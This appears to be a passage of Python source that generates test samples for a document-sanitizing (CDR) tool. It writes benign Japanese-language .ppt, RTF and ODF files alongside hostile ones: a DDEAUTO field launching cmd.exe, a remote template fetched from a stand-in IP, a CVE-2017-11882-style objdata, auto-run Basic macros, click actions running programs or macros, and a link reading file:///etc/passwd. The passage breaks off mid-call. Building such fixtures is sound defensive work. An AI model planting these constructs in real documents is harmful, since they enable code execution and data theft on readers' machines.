        entries += struct.pack("<II", pid | (1 << 20), len(doc))
        doc += rec.to_bytes()
    dir_at = len(doc)
    doc += Rec(0, 0, 0x1772, entries).to_bytes()
    body = bytearray(edit.body[:28])
    struct.pack_into("<III", body, 8, last, dir_at, struct.unpack_from("<I", body, 16)[0])
    struct.pack_into("<I", body, 20, max(seed, max(changed) + 1))
    edit_at = len(doc)
    doc += Rec(0, 0, 0x0FF5, bytes(body)).to_bytes()
    cu = bytearray(streams["Current User"])
    struct.pack_into("<I", cu, 16, edit_at)
    return write_cfb({**streams, "PowerPoint Document": bytes(doc), "Current User": bytes(cu)}, storages)


def _vba_storage() -> bytes:
    """ExOleObjStg (compressed) holding a VBA project storage, as PowerPoint keeps its project."""
    import zlib

    from cdr.formats.legacy_office.records import Rec

    stg = write_cfb({k.split("/", 1)[1]: v for k, v in _vba_streams("x").items()})
    return Rec(0, 1, 0x1011, struct.pack("<I", len(stg)) + zlib.compress(stg)).to_bytes()


def _add_vba_and_control(data: bytes) -> bytes:
    """A new edit: the document gains a VBAInfo naming a VBA storage and an ActiveX control whose
    storage is a persist object; the first slide's old text stays behind in the earlier edit."""
    from cdr.formats.legacy_office.records import Rec, parse

    def change(load, seed):
        document = load(1)
        vba_id, ctl_id = seed, seed + 1
        info = Rec(0xF, 1, 0x03FF, children=[Rec(2, 0, 0x0400, struct.pack("<III", vba_id, 1, 2))])
        lst = document.first(0x07D0)
        if lst is None:
            lst = Rec(0xF, 0, 0x07D0)
            document.children.insert(-1, lst)
        lst.children = [c for c in lst.children if c.type != 0x03FF] + [info]
        exlist = document.first(0x0409)
        if exlist is None:
            exlist = Rec(0xF, 0, 0x0409, children=[Rec(0, 0, 0x040A, struct.pack("<I", 1))])
            document.children.insert(-1, exlist)
        control = Rec(0xF, 0, 0x0FEE, children=[
            Rec(0, 0, 0x0FFB, struct.pack("<I", 0)),
            Rec(1, 0, 0x0FC3, struct.pack("<IIIIII", 1, 2, 77, 0, ctl_id, 0)),
            Rec(0, 2, 0x0FBA, "Forms.CommandButton.1".encode("utf-16-le"))])
        exlist.children.append(control)
        stg = parse(_vba_storage())[0]
        ctl = Rec(0, 0, 0x1011, write_cfb({"contents": b"\0" * 16, "\x03OCXNAME": "CommandButton1\0".encode("utf-16-le")}))
        return {1: document, vba_id: stg, ctl_id: ctl}

    return _ppt_incremental(data, change)


def _patch_actions(data: bytes) -> bytes:
    """Click actions as PowerPoint writes them for 'run program' and 'run macro' (LibreOffice turns
    both into hyperlinks): the third link's action becomes a macro with its name."""
    from cdr.formats.legacy_office.records import Rec

    def change(load, seed):
        r, _s, _st, objects, _o = _ppt_live(data)
        slides = {}
        for pid in sorted(objects):
            rec = load(pid)
            if rec is None or rec.type != 0x03EE:
                continue
            hit = False
            for info in rec.walk():
                atom = info.first(0x0FF3) if info.type == 0x0FF2 else None
                if atom is None:
                    continue
                link = struct.unpack_from("<I", atom.body, 4)[0]
                body = bytearray(atom.body)
                if link == 2:
                    body[8] = 2  # run a program: the target is the link's address
                elif link == 4:
                    body[8], body[4:8] = 1, b"\0\0\0\0"  # run a macro
                    info.children.append(Rec(0, 2, 0x0FBA, "Module1.AutoRun".encode("utf-16-le")))
                else:
                    continue
                atom.body = bytes(body)
                hit = True
            if hit:
                slides[pid] = rec
        return slides

    return _ppt_incremental(data, change)


@generator("legacy_office")
def legacy_ppt_samples(out: Path) -> list[Sample]:
    """.ppt files carrying each construct the native .ppt rebuild keeps or removes."""
    base = out / "legacy_office"
    (base / "benign").mkdir(parents=True, exist_ok=True)
    (base / "hostile").mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    with tempfile.TemporaryDirectory(prefix="cdr-ppt-samples-") as tmp:
        t = Path(tmp)
        _make_slides_pptx(t / "slides.pptx")
        _make_slides_pptx(t / "links.pptx", hostile=True)
        slide = ('<draw:page draw:name="p1"><draw:frame presentation:class="title" svg:x="1cm" svg:y="1cm" '
                 f'svg:width="24cm" svg:height="3cm"><draw:text-box><text:p>{JA_TITLE}</text:p></draw:text-box>'
                 '</draw:frame><draw:frame svg:x="2cm" svg:y="6cm" svg:width="8cm" svg:height="5cm">'
                 '<draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
                 "</draw:frame></draw:page>")
        _odf(t / "object.odp", ODP, slide, {"Object 1/content.xml": _SUBDOC,
                                            "ObjectReplacements/Object 1": _png(80, 50, (200, 150, 0))},
             {"Object 1/": ODT, "ObjectReplacements/Object 1": "image/png"})
        _soffice(t / "profile", "--convert-to", "ppt:MS PowerPoint 97", "--outdir", str(t), str(t / "slides.pptx"),
                 str(t / "links.pptx"), str(t / "object.odp"))
        slides, links, obj = ((t / f"{n}.ppt").read_bytes() for n in ("slides", "links", "object"))
    (base / "benign" / "会議資料.ppt").write_bytes(slides)
    samples.append(Sample("legacy_office/benign/会議資料.ppt", "clean", [],
                          note="web link, picture, speaker notes, a hidden slide"))

    def put(name: str, data: bytes, threats: list[str], note: str) -> None:
        (base / "hostile" / name).write_bytes(data)
        samples.append(Sample(f"legacy_office/hostile/{name}", "sanitized", threats, note=note))

    put("click_actions.ppt", _patch_actions(links), ["ole.hyperlink", "ole.action"],
        "clicks that run a program, run a macro, open a share; an incremental save")
    put("vba_activex.ppt", _add_vba_and_control(slides), ["ole.vba", "ole.activex", "ole.object"],
        "VBA project and an ActiveX control added by an incremental save")
    put("embedded_object.ppt", obj, ["ole.object"], "embedded document shown by its picture")
    return samples


# --- RTF -----------------------------------------------------------------------------------------


def _rtf_sjis(text: str) -> str:
    return "".join(c if ord(c) < 128 else "".join(f"\\'{b:02x}" for b in c.encode("cp932")) for c in text)


def _rtf_doc(body: str, head: str = "") -> bytes:
    return ("{\\rtf1\\ansi\\ansicpg932\\deff0\\deflang1041"
            "{\\fonttbl{\\f0\\fnil\\fcharset128 \\'82\\'6c\\'82\\'72 \\'96\\'be\\'92\\'a9;}"
            "{\\f1\\fswiss\\fcharset0 Arial;}}" + head + "\n" + _rtf_sjis(body) + "\n}").encode("ascii")


def _rtf_pict() -> str:
    return "{\\pict\\pngblip\\picw24\\pich16\\picwgoal360\\pichgoal240 " + _png().hex() + "}"


def _rtf_word_style() -> bytes:
    """An RTF the way Word writes one, with the tables a reader needs: fonts (panose, alternative name),
    colours, defaults, styles (paragraph, character, table), a bullet list, revision ids, the generator,
    document information, page setup, a header and footer with a PAGE field, a table with borders and
    shading, a footnote, a bookmark and a shape picture."""
    j = _rtf_sjis
    cell = "\\clvertalt\\clbrdrt\\brdrs\\brdrw10 \\clbrdrl\\brdrs\\brdrw10 \\clbrdrb\\brdrs\\brdrw10 " \
           "\\clbrdrr\\brdrs\\brdrw10 \\cltxlrtb\\clftsWidth3\\clwWidth2835"
    row = ("\\trowd \\irow{i}\\irowband{i}\\ltrrow\\ts11\\trgaph108\\trleft-108\\trbrdrt\\brdrs\\brdrw10 "
           "\\trbrdrl\\brdrs\\brdrw10 \\trbrdrb\\brdrs\\brdrw10 \\trbrdrr\\brdrs\\brdrw10 "
           "\\trftsWidth1\\trpaddl108\\trpaddr108\\trpaddfl3\\trpaddfr3\\tblind0\\tblindtype3 "
           + cell + "{shade}\\cellx2727" + cell + "\\cellx5562" + cell + "\\cellx8397\n")
    cells = "\\pard\\plain \\ltrpar\\ql \\li0\\ri0\\widctlpar\\intbl\\wrapdefault\\aspalpha\\aspnum\\faauto" \
            "\\adjustright\\rin0\\lin0 \\rtlch\\fcs1 \\af0\\afs21 \\ltrch\\fcs0 \\fs21\\lang1033\\langfe1041" \
            "\\loch\\af11\\hich\\af11\\dbch\\af11\\f11\\cgrid\\langnp1033\\langfenp1041 "
    table = ""
    for i, (a, b, c) in enumerate([("項目", "内容", "備考"), ("氏名", "山田太郎", "自署"),
                                   ("住所", "東京都千代田区霞が関", "")]):
        r = row.format(i=i, shade="\\clcbpat5" if i == 0 else "")
        table += (r + cells + "{" + ("\\b " if i == 0 else "") + j(a) + "\\cell " + j(b) + "\\cell " + j(c)
                  + "\\cell }\\pard\\plain \\ltrpar\\widctlpar\\intbl{" + r + "\\row }\n")
    pict = ("{\\*\\shppict{\\pict{\\*\\picprop\\shplid1025{\\sp{\\sn shapeType}{\\sv 75}}{\\sp{\\sn fFlipH}{\\sv 0}}"
            "{\\sp{\\sn fLayoutInCell}{\\sv 1}}}\\picscalex100\\picscaley100\\piccropl0\\piccropr0\\piccropt0"
            "\\piccropb0\\picw635\\pich423\\picwgoal360\\pichgoal240\\pngblip\\bliptag-1146239000"
            "{\\*\\blipuid bbad7ee8f1c4d9a1f0e1d2c3b4a59687}" + _png(24, 16, (30, 90, 200)).hex() + "}}")
    doc = (
        "{\\rtf1\\adeflang1025\\ansi\\ansicpg932\\uc2\\adeff0\\deff11\\stshfdbch11\\stshfloch0\\stshfhich0"
        "\\stshfbi0\\deflang1033\\deflangfe1041\\themelang1033\\themelangfe1041\\themelangcs0"
        "{\\fonttbl{\\f0\\fbidi \\froman\\fcharset0\\fprq2{\\*\\panose 02020603050405020304}Times New Roman;}"
        "{\\f1\\fbidi \\fswiss\\fcharset0\\fprq2{\\*\\panose 020b0604020202020204}Arial;}"
        "{\\f11\\fbidi \\fmodern\\fcharset128\\fprq1{\\*\\panose 02020609040205080304}" + j("ＭＳ 明朝")
        + "{\\*\\falt MS Mincho};}}"
        "{\\colortbl;\\red0\\green0\\blue0;\\red0\\green0\\blue255;\\red192\\green0\\blue0;"
        "\\red0\\green128\\blue0;\\red255\\green255\\blue0;\\ctextone\\ctint255\\cshade255\\red0\\green0\\blue0;}"
        "{\\*\\defchp \\fs21\\kerning2\\loch\\af1\\hich\\af1\\dbch\\af11 }{\\*\\defpap \\ql \\li0\\ri0"
        "\\widctlpar\\wrapdefault\\aspalpha\\aspnum\\faauto\\adjustright\\rin0\\lin0\\itap0 }"
        "{\\stylesheet{\\qj \\li0\\ri0\\nowidctlpar\\wrapdefault\\faauto\\rin0\\lin0\\itap0 \\rtlch\\fcs1 "
        "\\af0\\afs22\\alang1025 \\ltrch\\fcs0 \\kerning2\\fs21\\lang1033\\langfe1041\\loch\\f1\\hich\\af1"
        "\\dbch\\af11\\cgrid\\langnp1033\\langfenp1041 \\snext0 \\sqformat \\spriority0 Normal;}"
        "{\\s1\\ql \\li0\\ri0\\keepn\\nowidctlpar\\wrapdefault\\faauto\\outlinelevel0\\rin0\\lin0\\itap0 "
        "\\b\\fs28\\cf2\\kerning2\\loch\\af11\\hich\\af11\\dbch\\af11\\f11 \\sbasedon0 \\snext0 \\slink15 "
        "\\sqformat \\spriority9 heading 1;}{\\*\\cs10 \\additive \\ssemihidden \\sunhideused \\spriority1 "
        "Default Paragraph Font;}{\\*\\ts11\\tsrowd\\trftsWidthB3\\trpaddl108\\trpaddr108\\trpaddfl3\\trpaddft3"
        "\\trpaddfb3\\trpaddfr3\\tblind0\\tblindtype3\\tsvertalt\\tsbrdrt\\tsbrdrl\\tsbrdrb\\tsbrdrr\\tsbrdrdgl"
        "\\tsbrdrdgr\\tsbrdrh\\tsbrdrv \\qj \\li0\\ri0\\widctlpar\\wrapdefault\\aspalpha\\aspnum\\faauto"
        "\\adjustright\\rin0\\lin0\\itap0 \\fs21\\kerning2 \\snext11 \\ssemihidden \\sunhideused Normal Table;}"
        "{\\*\\cs15 \\additive \\b\\fs28\\cf2 \\slink1 \\slocked \\spriority9 Heading 1 Char;}}"
        "{\\*\\listtable{\\list\\listtemplateid-1\\listhybrid{\\listlevel\\levelnfc23\\levelnfcn23\\leveljc0"
        "\\leveljcn0\\levelfollow0\\levelstartat1\\levelspace0\\levelindent0{\\leveltext\\leveltemplateid1"
        "\\uc1\\'01\\u12539 ?;}{\\levelnumbers;}\\f11\\fbias0 \\fi-420\\li420\\lin420 }{\\listname ;}\\listid7}}"
        "{\\*\\listoverridetable{\\listoverride\\listid7\\listoverridecount0\\ls1}}"
        "{\\*\\rsidtbl \\rsid2758183\\rsid7037355}{\\*\\mmathPr\\mmathFont34\\mbrkBin0}"
        "{\\*\\xmlnstbl {\\xmlns1 http://schemas.microsoft.com/office/word/2003/wordml}}"
        "{\\*\\generator Microsoft Word 16.0;}{\\info{\\title " + j("交付申請") + "}{\\author " + j("山田")
        + "}{\\creatim\\yr2026\\mo4\\dy1\\hr9\\min30}{\\version2}{\\edmins1}{\\nofpages1}}"
        "\\paperw11906\\paperh16838\\margl1701\\margr1701\\margt1985\\margb1701\\gutter0\\ltrsect \\deftab840"
        "\\ftnbj\\aenddoc\\trackmoves0\\trackformatting1\\donotembedsysfont0\\relyonvml0\\donotembedlingdata1"
        "\\grfdocevents0\\validatexml0\\showplaceholdtext0\\ignoremixedcontent0\\saveinvalidxml0\\showxmlerrors0"
        "\\horzdoc\\dghspace180\\dgvspace180\\dghorigin1701\\dgvorigin1984\\dghshow0\\dgvshow2\\jcompress"
        "\\lnongrid\\viewkind1\\viewscale100\\splytwnine\\ftnlytwnine\\htmautsp\\useltbaln\\alntblind"
        "\\lytcalctblwd\\lyttblrtgr\\lnbrkrule\\nobrkwrptbl\\snaptogridincell\\allowfieldendsel\\wrppunct"
        "\\asianbrkrule\\rsidroot2758183\\newtblstyruls\\nogrowautofit\\usenormstyforlist\\noindnmbrts"
        "\\felnbrelev\\nocxsptable\\indrlsweleven\\noafcnsttbl\\afelev\\utinl\\hwelev\\spltpgpar\\notcvasp"
        "\\notbrkcnstfrctbl\\notvatxbx\\krnprsnet\\cachedcolbal \\nouicompat \\fet0{\\*\\wgrffmtfilter 2450}"
        "\\nofeaturethrottle1\\ilfomacatclnup0\\ltrpar \\sectd \\ltrsect\\linex0\\headery851\\footery992"
        "\\colsx425\\endnhere\\sectlinegrid360\\sectspecifyl\\sectrsid2758183\\sftnbj "
        "{\\header \\ltrpar \\pard\\plain \\ltrpar\\qc \\li0\\ri0\\widctlpar\\wrapdefault\\faauto\\rin0"
        "\\lin0\\itap0 \\fs18\\cf3 " + j("千代田区役所　住民課") + "\\par }"
        "{\\footer \\ltrpar \\pard\\plain \\ltrpar\\qc \\li0\\ri0\\widctlpar\\wrapdefault\\faauto\\rin0\\lin0"
        "\\itap0 {\\field{\\*\\fldinst {\\rtlch\\fcs1 \\af0 \\ltrch\\fcs0 \\insrsid2758183  PAGE   "
        "\\\\* MERGEFORMAT }}{\\fldrslt {\\rtlch\\fcs1 \\af0 \\ltrch\\fcs0 \\lang1024\\langfe1024"
        "\\noproof\\insrsid2758183 1}}}\\par }\n"
        "\\pard\\plain \\ltrpar\\s1\\ql \\li0\\ri0\\keepn\\nowidctlpar\\wrapdefault\\faauto\\outlinelevel0"
        "\\rin0\\lin0\\itap0\\pararsid2758183 \\b\\fs28\\cf2\\kerning2\\loch\\af11\\hich\\af11\\dbch\\af11\\f11 "
        "{\\*\\bkmkstart _Toc1}" + j(JA_TITLE) + "{\\*\\bkmkend _Toc1}\\par\n"
        "\\pard\\plain \\ltrpar\\qj \\li0\\ri0\\nowidctlpar\\wrapdefault\\faauto\\rin0\\lin0\\itap0 "
        "\\fs21\\kerning2\\loch\\af11\\hich\\af11\\dbch\\af11\\f11 " + j(JA_BODY)
        + "{\\cs16\\super\\chftn}{\\footnote \\ltrpar \\pard\\plain \\ltrpar\\qj \\fs18 {\\cs16\\super"
        "\\chftn} " + j("平日の窓口で受け付けます。") + "}\\par\n"
        "\\pard \\ltrpar\\qj \\li0\\ri0\\nowidctlpar\\wrapdefault\\faauto\\rin0\\lin0\\itap0 {\\cf3\\b "
        + j("赤い注意書き：") + "}{\\highlight5 " + j("本人確認書類") + "}" + j("をお持ちください。")
        + "\\uc1\\u20013?\\u25991?\\uc2 \\par\n"
        "{\\listtext\\pard\\plain \\ltrpar \\f11 \\loch\\af11\\hich\\af11\\dbch\\af11 \\'81\\'45\\tab}"
        "\\pard\\plain \\ltrpar\\qj \\fi-420\\li420\\ri0\\nowidctlpar\\wrapdefault\\faauto\\ls1\\rin0"
        "\\lin420\\itap0 " + j("運転免許証") + "\\par\n"
        "{\\listtext\\pard\\plain \\ltrpar \\f11 \\loch\\af11\\hich\\af11\\dbch\\af11 \\'81\\'45\\tab}"
        + j("マイナンバーカード") + "\\par\n"
        "\\pard \\ltrpar\\qj \\li0\\ri0\\nowidctlpar\\wrapdefault\\faauto\\rin0\\lin0\\itap0 \\par\n"
        + table
        + "\\pard \\ltrpar\\qc \\li0\\ri0\\nowidctlpar\\wrapdefault\\faauto\\rin0\\lin0\\itap0 " + pict
        + "\\par\n}")
    return doc.encode("ascii")


@generator("rtf")
def rtf_samples(out: Path) -> list[Sample]:
    base = out / "rtf"
    (base / "benign").mkdir(parents=True, exist_ok=True)
    (base / "hostile").mkdir(parents=True, exist_ok=True)
    para = "\\pard\\f0 " + _rtf_sjis(JA_TITLE) + "\\par\n\\pard\\f0 " + _rtf_sjis(JA_BODY) + "\\par\n"
    uni = "\\pard\\f1\\uc1 Unicode: \\u20013?\\u25991?\\par\n"  # 中文 via \uN
    samples: list[Sample] = []

    def put(rel: str, data: bytes, verdict: str, threats: list[str], note: str = "") -> None:
        (out / rel).write_bytes(data)
        samples.append(Sample(rel, verdict, threats, note=note))

    put("rtf/benign/申請書.rtf", _rtf_doc(para + uni + "\\pard " + _rtf_pict() + "\\par\n"
                                        "{\\field{\\*\\fldinst HYPERLINK \"https://www.city.example.lg.jp/\"}"
                                        "{\\fldrslt 市のホームページ}}\\par"), "clean", [],
        note="cp932 \\'xx text, \\uN text, PNG picture, https hyperlink")
    put("rtf/benign/表と一覧.rtf", _rtf_word_style(), "clean", [],
        note="Word-style: style sheet, colours, list, table with shading, header/footer PAGE field, footnote, "
             "bookmark, \\uN and cp932 text, shape picture; \\*\\xmlnstbl left out (reported)")
    objdata = _ole1_package(b"WScript.Echo 1").hex()
    put("rtf/hostile/object_package.rtf",
        _rtf_doc(para + "{\\object\\objemb\\objupdate{\\*\\objclass Package}\\objw100\\objh100"
                        "{\\*\\objdata " + objdata + "}{\\result " + _rtf_pict() + "}}\\par"),
        "sanitized", ["rtf.object"], note="embedded Package object with \\objupdate; result picture kept")
    put("rtf/hostile/objdata_loose.rtf",
        _rtf_doc(para + "{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000}\\par"),
        "sanitized", ["rtf.object"], note="objdata outside an object group (CVE-2017-11882 style)")
    put("rtf/hostile/remote_template.rtf",
        _rtf_doc(para, head="{\\*\\template http://203.0.113.9/payload.dotm}"), "sanitized",
        ["rtf.remote_template"])
    put("rtf/hostile/ddeauto.rtf",
        _rtf_doc(para + "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}"
                        "{\\fldrslt " + _rtf_sjis("計算結果") + "}}\\par"), "sanitized", ["rtf.field"])
    put("rtf/hostile/includepicture.rtf",
        _rtf_doc(para + "{\\field{\\*\\fldinst INCLUDEPICTURE \"http://203.0.113.9/track.png\" \\\\d}"
                        "{\\fldrslt " + _rtf_pict() + "}}\\par"), "sanitized", ["rtf.field"])
    put("rtf/hostile/objautlink.rtf",
        _rtf_doc(para + "{\\object\\objautlink\\rsltpict{\\*\\objclass Word.Document.8}"
                        "{\\*\\objdata 0105000002000000}{\\result " + _rtf_sjis("リンク") + "}}\\par"),
        "sanitized", ["rtf.object"])
    return samples


# --- ODF -----------------------------------------------------------------------------------------

_ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
           'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
           'xmlns:xlink="http://www.w3.org/1999/xlink" '
           'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
           'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
           'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
           'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
           'xmlns:dom="http://www.w3.org/2001/xml-events" '
           'xmlns:ooo="http://openoffice.org/2004/office" '
           'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
           'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" office:version="1.3"')
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODP = "application/vnd.oasis.opendocument.presentation"


def _odf(path: Path, mimetype: str, body: str, extra: dict[str, bytes] | None = None,
         manifest_extra: dict[str, str] | None = None, scripts: str = "") -> None:
    extra = extra or {}
    kind = {ODT: "text", ODS: "spreadsheet", ODP: "presentation"}[mimetype]
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF_NS}>'
               f"<office:scripts>{scripts}</office:scripts>"
               f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>")
    styles = f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {_ODF_NS}><office:styles/>' \
             "</office:document-styles>"
    meta = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {_ODF_NS}><office:meta>'
            "<meta:generator>cdr-samples</meta:generator><meta:initial-creator>市民課</meta:initial-creator>"
            "</office:meta></office:document-meta>")
    files = {"content.xml": content.encode(), "styles.xml": styles.encode(), "meta.xml": meta.encode(), **extra}
    entries = [f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>']
    for name in files:
        media = (manifest_extra or {}).get(name) or ("text/xml" if name.endswith(".xml") else "image/png")
        entries.append(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{media}"/>')
    for name, media in (manifest_extra or {}).items():
        if name.endswith("/"):
            entries.append(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{media}"/>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
                + "".join(entries) + "</manifest:manifest>")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        for name, data in files.items():
            z.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)


_ODT_TEXT = (f"<text:h text:outline-level=\"1\">{JA_TITLE}</text:h><text:p>{JA_BODY}</text:p>"
             "<table:table table:name=\"表1\"><table:table-column table:number-columns-repeated=\"2\"/>"
             "<table:table-row><table:table-cell><text:p>項目</text:p></table:table-cell>"
             "<table:table-cell><text:p>内容</text:p></table:table-cell></table:table-row>"
             "<table:table-row><table:table-cell><text:p>交付枚数</text:p></table:table-cell>"
             "<table:table-cell><text:p>２通</text:p></table:table-cell></table:table-row></table:table>"
             "<text:p>詳細は<text:a xlink:type=\"simple\" xlink:href=\"https://www.city.example.lg.jp/\">"
             "市のホームページ</text:a>をご覧ください。</text:p>"
             "<text:p><draw:frame draw:name=\"図1\" svg:width=\"2cm\" svg:height=\"1.3cm\">"
             "<draw:image xlink:href=\"Pictures/seal.png\" xlink:type=\"simple\"/></draw:frame></text:p>")
_SUBDOC = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF_NS}><office:body><office:text>'
           "<text:p>埋め込み文書</text:p></office:text></office:body></office:document-content>").encode()
_CHART = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF_NS}><office:body><office:chart/>'
          "</office:body></office:document-content>")


@generator("odf")
def odf_samples(out: Path) -> list[Sample]:
    base = out / "odf"
    (base / "benign").mkdir(parents=True, exist_ok=True)
    (base / "hostile").mkdir(parents=True, exist_ok=True)
    png = _png()
    samples: list[Sample] = []
    pics = {"Pictures/seal.png": png}

    _odf(base / "benign" / "申請書.odt", ODT, _ODT_TEXT, dict(pics))
    samples.append(Sample("odf/benign/申請書.odt", "clean", [], note="Japanese text, table, https link, picture"))
    chart_body = _ODT_TEXT + ('<text:p><draw:frame draw:name="グラフ1"><draw:object xlink:href="./Object 1" '
                              'xlink:type="simple"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
                              "</draw:frame></text:p>")
    _odf(base / "benign" / "グラフ付き.odt", ODT, chart_body,
         {**pics, "Object 1/content.xml": _CHART.encode(), "ObjectReplacements/Object 1": png},
         {"Object 1/": "application/vnd.oasis.opendocument.chart", "ObjectReplacements/Object 1": "image/png"})
    samples.append(Sample("odf/benign/グラフ付き.odt", "clean", [], note="chart sub-document is kept"))
    cells = "".join(f"<table:table-row><table:table-cell office:value-type=\"string\"><text:p>{a}</text:p>"
                    f"</table:table-cell><table:table-cell office:value-type=\"float\" office:value=\"{b}\">"
                    f"<text:p>{b}</text:p></table:table-cell></table:table-row>"
                    for a, b in (("住民票", 12), ("印鑑証明", 5)))
    _odf(base / "benign" / "集計.ods", ODS, f'<table:table table:name="集計">{cells}</table:table>')
    samples.append(Sample("odf/benign/集計.ods", "clean", []))
    items = "".join(f"<text:list-item><text:p>{t}</text:p></text:list-item>"
                    for t in ("窓口で申請書を受け取る", "必要事項を記入する", "本人確認書類と一緒に提出する"))
    deck = ('<draw:page draw:name="p1"><draw:frame presentation:class="title" svg:x="1cm" svg:y="1cm" '
            f'svg:width="24cm" svg:height="3cm"><draw:text-box><text:p>{JA_TITLE}</text:p></draw:text-box>'
            '</draw:frame><draw:frame presentation:class="outline" svg:x="1cm" svg:y="5cm" svg:width="16cm" '
            f'svg:height="8cm"><draw:text-box><text:list>{items}</text:list></draw:text-box></draw:frame>'
            '<draw:frame svg:x="18cm" svg:y="5cm" svg:width="4cm" svg:height="2.6cm"><draw:image '
            'xlink:href="Pictures/seal.png" xlink:type="simple"/></draw:frame></draw:page>')
    _odf(base / "benign" / "説明資料.odp", ODP, deck, dict(pics))
    samples.append(Sample("odf/benign/説明資料.odp", "clean", [], note="slide with a list and a picture"))

    basic = {"Basic/script-lc.xml": b'<?xml version="1.0"?><library:libraries '
                                    b'xmlns:library="http://openoffice.org/2000/library"/>',
             "Basic/Standard/Module1.xml": b'<?xml version="1.0"?><script:module '
                                           b'xmlns:script="http://openoffice.org/2000/script" '
                                           b'script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>'}
    onload = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
              'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
              'language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners>')
    _odf(base / "hostile" / "macro_onload.odt", ODT, _ODT_TEXT, {**pics, **basic}, scripts=onload)
    samples.append(Sample("odf/hostile/macro_onload.odt", "sanitized", ["odf.macro", "odf.event"]))
    ext_body = (_ODT_TEXT + '<text:p><text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">'
                "ここをクリック</text:a></text:p><text:p><text:a xlink:href=\"\\\\203.0.113.9\\share\\a.lnk\">"
                "共有</text:a></text:p><text:p><draw:frame><draw:image xlink:href=\"http://203.0.113.9/t.png\"/>"
                "</draw:frame></text:p><text:section text:name=\"s1\"><text:section-source "
                "xlink:href=\"file:///etc/passwd\"/><text:p>キャッシュ本文</text:p></text:section>")
    _odf(base / "hostile" / "external_links.odt", ODT, ext_body, dict(pics))
    samples.append(Sample("odf/hostile/external_links.odt", "sanitized", ["odf.external_link"]))
    # A mail merge letter: a form bound to a database server, a database field, the merge's data source.
    db = "sdbc:mysql:jdbc:203.0.113.9:3306/juminhyo"
    _odf(base / "hostile" / "database_form.odt", ODT,
         f'<office:forms><form:form form:name="申請" form:datasource="{db}" form:command="SELECT * FROM 住民" '
         'form:command-type="command"><form:text form:name="氏名" form:id="c1" form:data-field="name"/></form:form>'
         f'</office:forms><text:p>宛名: <text:database-display text:database-name="{db}" text:table-name="住民" '
         'text:table-type="table" text:column-name="name">山田 花子</text:database-display> 様</text:p>'
         '<text:p>住民票の写しの交付についてお知らせします。</text:p>',
         {"settings.xml": ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-settings xmlns:office="urn:oasis:'
                           'names:tc:opendocument:xmlns:office:1.0" xmlns:config="urn:oasis:names:tc:opendocument:'
                           'xmlns:config:1.0" office:version="1.3"><office:settings><config:config-item-set '
                           'config:name="ooo:configuration-settings"><config:config-item config:name='
                           f'"CurrentDatabaseDataSource" config:type="string">{db}</config:config-item>'
                           '</config:config-item-set></office:settings></office:document-settings>').encode()})
    samples.append(Sample("odf/hostile/database_form.odt", "sanitized", ["odf.external_link"],
                          note="the form's controls and the field's text kept, the database bindings cut"))
    obj_body = (_ODT_TEXT + '<text:p><draw:frame><draw:object xlink:href="./Object 2" xlink:type="simple"/>'
                '<draw:image xlink:href="./ObjectReplacements/Object 2"/></draw:frame></text:p>'
                '<text:p><draw:frame><draw:object-ole xlink:href="./Object 3"/>'
                '<draw:image xlink:href="./ObjectReplacements/Object 3"/></draw:frame></text:p>'
                '<text:p><draw:frame><draw:applet draw:code="Evil.class"/></draw:frame></text:p>')
    _odf(base / "hostile" / "embedded_objects.odt", ODT, obj_body,
         {**pics, "Object 2/content.xml": _SUBDOC, "ObjectReplacements/Object 2": png,
          "Object 3": write_cfb({"\x01Ole10Native": b"\x10\0\0\0MZ payload......"}),
          "ObjectReplacements/Object 3": png},
         {"Object 2/": ODT, "Object 3": "application/vnd.sun.star.oleobject",
          "ObjectReplacements/Object 2": "image/png", "ObjectReplacements/Object 3": "image/png"})
    samples.append(Sample("odf/hostile/embedded_objects.odt", "sanitized", ["odf.object"],
